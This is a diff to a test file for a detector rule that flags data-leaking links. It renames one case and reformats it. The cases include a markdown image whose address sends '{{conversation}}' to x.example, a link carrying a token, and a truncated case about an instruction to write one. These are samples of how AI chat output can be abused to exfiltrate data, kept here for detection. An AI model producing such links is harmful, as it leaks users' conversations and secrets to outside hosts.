@@ -3,7 +3,10 @@ import { dataLink } from './data-link.ts';
 
 ruleCases(dataLink, {
   hits: [
-    { name: 'a picture with a hole', text: '![ok](https://x.example/p.png?d={{conversation}})\n' },
+    {
+      name: 'an image with a placeholder in its address',
+      text: '![ok](https://x.example/p.png?d={{conversation}})\n',
+    },
     { name: 'a link with a secret', text: 'See [here](https://x.example/a?token=${token}).\n' },
     {
       name: 'an order to write one',
